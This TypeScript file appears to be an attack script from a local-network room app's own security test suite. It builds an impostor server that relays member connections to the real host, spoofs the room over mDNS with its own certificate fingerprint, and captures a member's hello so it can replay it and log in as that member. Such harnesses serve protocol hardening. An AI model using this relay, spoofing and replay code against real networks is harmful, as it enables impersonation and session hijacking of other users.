/**
 * Attack 3: a first-contact impostor that relays. Serves the real room's info from its own
 * certificate on this machine, and relays every member connection it gets to the real host
 * frame by frame (challenge, hello and proof included). With `--advertise` it also announces
 * the real room's id over mDNS with its own fingerprint, at its own address. Reports whether
 * the real host welcomed any member it relayed. With `--replay`, once a relayed member has gone,
 * it sends that member's captured hello again on a fresh connection of its own: a hello that
 * is a bearer secret logs it in as the member.
 */
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';
import { WebSocketServer, type WebSocket } from 'ws';
import { createIdentity } from '../../../src/core/identity/createIdentity';
import { fetchInfoTls } from '../../../src/core/roomInfo';
import { INFO_PATH, PROTOCOL_VERSION } from '../../../src/shared/protocol';
import { attackArgs, boundedLife, emit } from '../support/attacker';
import { openMdns, serviceRecords } from '../support/mdns';
import { RawMember } from '../support/member';

const { target, values } = attackArgs({
  me: { type: 'string' },
  advertise: { type: 'boolean', default: false },
  replay: { type: 'boolean', default: false },
});
const real = { host: target.host, port: target.port };
const { info } = await fetchInfoTls(real, target.fingerprint, 5_000);
const identity = await createIdentity();
const seen = {
  victimConnections: 0,
  hellos: 0,
  hellosWithKey: 0,
  welcomes: 0,
  refusals: {} as Record<string, number>,
  welcomedAs: [] as string[],
  replay: null as null | { outcome: string; asId: string | null; sameMember: boolean },
};
let capturedHello: string | null = null;
let victimId: string | null = null;

const server = https.createServer({ key: identity.key, cert: identity.cert }, (req, res) => {
  res.writeHead(req.url === INFO_PATH ? 200 : 404, { 'content-type': 'application/json' });
  res.end(req.url === INFO_PATH ? JSON.stringify(info) : '');
});
const wss = new WebSocketServer({ server, perMessageDeflate: false });
wss.on('connection', (down: WebSocket) => {
  seen.victimConnections++;
  // Upstream exactly as a member connects, pinned to the real host.
  const up = new RawMember({ endpoint: real, fingerprint: target.fingerprint, passcode: false });
  up.ignoreFrames();
  const queue: string[] = [];
  down.on('message', (data) => {
    const text = data.toString();
    const frame = parse(text);
    if (frame?.type === 'hello') {
      seen.hellos++;
      capturedHello ??= text;
      if (typeof frame.key === 'string') seen.hellosWithKey++;
    }
    if (up.ws.readyState === up.ws.OPEN) up.ws.send(text);
    else queue.push(text);
  });
  up.ws.on('open', () => queue.splice(0).forEach((t) => up.ws.send(t)));
  up.ws.on('message', (data) => {
    const text = data.toString();
    const frame = parse(text);
    if (frame?.type === 'welcome') {
      seen.welcomes++;
      const you = frame.you as { id?: unknown; nick?: unknown } | undefined;
      seen.welcomedAs.push(String(you?.nick));
      victimId ??= typeof you?.id === 'string' ? you.id : null;
      emit('welcomed', { you: frame.you });
    } else if (frame?.type === 'error')
      seen.refusals[String(frame.code)] = (seen.refusals[String(frame.code)] ?? 0) + 1;
    if (down.readyState === down.OPEN) down.send(text);
  });
  up.ws.on('close', (code) => down.close(code >= 4000 || code === 1000 || code === 1001 ? code : 1011));
  down.on('close', () => {
    up.destroy();
    if (values.replay && capturedHello !== null && seen.replay === null) void replay(capturedHello);
  });
  down.on('error', () => up.destroy());
});

/** Sends a captured hello verbatim on a connection of our own, and records who it made us. */
async function replay(hello: string): Promise<void> {
  seen.replay = { outcome: 'pending', asId: null, sameMember: false };
  const again = new RawMember({ endpoint: real, fingerprint: target.fingerprint, passcode: false });
  const outcome = await new Promise<string>((resolve) => {
    again.ws.once('open', () => again.ws.send(hello));
    again.ws.on('message', (data) => {
      const frame = parse(data.toString());
      if (frame?.type === 'welcome') {
        const id = (frame.you as { id?: unknown } | undefined)?.id;
        seen.replay!.asId = typeof id === 'string' ? id : null;
        resolve('welcome');
      } else if (frame?.type === 'error') resolve(String(frame.code));
    });
    again.ws.once('close', (code) => resolve(`close ${code}`));
    setTimeout(() => resolve('no answer'), 10_000).unref();
  });
  seen.replay.outcome = outcome;
  seen.replay.sameMember = seen.replay.asId !== null && seen.replay.asId === victimId;
  emit('replayed', seen.replay);
  again.destroy();
}

function parse(text: string): Record<string, unknown> | null {
  try {
    const v: unknown = JSON.parse(text);
    return typeof v === 'object' && v !== null ? (v as Record<string, unknown>) : null;
  } catch {
    return null;
  }
}

await new Promise<void>((r) => server.listen(0, values.me, () => r()));
const port = (server.address() as AddressInfo).port;
if (values.advertise) {
  const mdns = openMdns(values.me!);
  const instance = `${info.name} [${randomBytes(4).toString('hex')}]`;
  const txt = {
    v: String(PROTOCOL_VERSION),
    id: info.id,
    name: info.name,
    host: info.host,
    n: String(info.members),
    fp: identity.fingerprint,
    ...(info.passcode && { pc: '1' }),
  };
  const announce = () =>
    mdns.respond({ answers: serviceRecords(instance, 'impostor.local', values.me!, port, txt, 120) });
  announce();
  setInterval(announce, 2_000);
}
boundedLife(target.maxMs, () => ({ port, fingerprint: identity.fingerprint, ...seen }));
emit('engaged', { port, fingerprint: identity.fingerprint });
